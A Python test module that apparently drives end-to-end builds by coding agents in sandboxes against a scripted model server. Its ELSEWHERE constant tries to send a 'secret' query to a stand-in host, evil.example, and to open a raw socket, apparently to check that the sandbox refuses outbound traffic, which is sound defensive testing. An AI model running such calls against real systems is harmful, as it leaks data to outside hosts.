"""Whole builds by real coding agents, in real sandboxes, whose model plays a script."""
import functools
import os
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from agent_model import Script
from conftest import build, require, until
from gateway_side import KEY
from model_upstream import Upstream, served
from real_engine import running

from engine.agents import AGENTS
from engine.agents.packages import PACKAGES, Npm, install, is_current
from engine.config import ROOT, Config
from engine.errors import Refused
from engine.store.db import Database

FOLDER = "SWARM_TEST_AGENTS"  # where agents are kept between runs of the tests; default: data/agents of this checkout
CHECK = "grep -q hello hello.txt"
ELSEWHERE = """\
import urllib.request, socket
for f in (lambda: urllib.request.urlopen('https://evil.example/', timeout=5),
          lambda: urllib.request.urlopen('http://evil.example/?it=secret', timeout=5), lambda: socket.create_connection(('1.1.1.1', 443), 3)):
    try:
        f(); print('REACHED')
    except Exception as e:
        print('refused', e)
"""
PATHS = {"openai": "/v1", "anthropic": "", "gemini": ""}


@functools.cache
def agents_folder(name: str) -> Path:
    """With this agent in it. Skips the test where it cannot be installed; with SWARM_REQUIRE_ALL=1 that is a failure."""
    folder = Path(os.environ.get(FOLDER) or ROOT / "data" / "agents")
    if not is_current(name, folder):
        if isinstance(PACKAGES[name], Npm):
            require("npm")
        try:
            install(name, folder)
        except Refused as refused:
            if os.environ.get("SWARM_REQUIRE_ALL") == "1":
                pytest.fail(refused.sentence)
            pytest.skip(refused.sentence)
    return folder


@dataclass
class Built:
    db: Database
    config: Config
    session: str
    upstream: Upstream
    script: Script

    def ticket(self) -> Any:
        return self.db.one("select * from tickets where type = 'feature'")

    def runs(self) -> list[Any]:
        """Of the feature, in order."""
        return self.db.all("select * from runs where kind = 'feature' order by seq")

    def wait(self, status: str, seconds: float = 240.0) -> Any:
        until(lambda: self.ticket()["status"] == status or (self.ticket()["status"] in ("failed", "completed", "needs_input") and self.runs() and
                                                           self.runs()[-1]["ended_at"]), seconds, f"the ticket is {status}")
        assert self.ticket()["status"] == status, (self.ticket()["reason"], self.log())
        return self.ticket()

    def log(self) -> str:
        path = self.config.data / "runs" / self.runs()[-1]["id"] / "log"
        return path.read_text(errors="replace") if path.exists() else ""


@contextmanager
def built(db: Database, config: Config, agent: str, script: Script, runtime: str = "bubblewrap", check: str = "", repository: str = "",
          **settings: Any) -> Iterator[Built]:
    """A build with one feature is on its way; it is stopped in the end."""
    if runtime == "bubblewrap":
        require("bwrap")
    with served(script) as upstream:
        kinds = AGENTS[agent].models
        urls = {f"{kind}_url": upstream.url + PATHS[kind] for kind in kinds} | {f"{kind}_key": KEY for kind in kinds}
        urls |= {f"{kind}_model": "script-1" for kind in kinds}
        folder = agents_folder(agent) if agent in PACKAGES else None
        real = replace(config, **{"runtime": runtime, "slots": 1, "synchronous": "NORMAL", "agents": folder, "agent": agent, **urls, **settings})
        criteria = [{"text": "It says hello", "check": check}] if check else []
        given = {"repository": repository} if repository else {}
        feature = {"title": "Greet", "description": "Write hello.txt.", "acceptance_criteria": criteria}
        session = build(db, real, {**given, "name": "Hello", "features": [feature]})
        with running(db, real):
            yield Built(db, real, session, upstream, script)
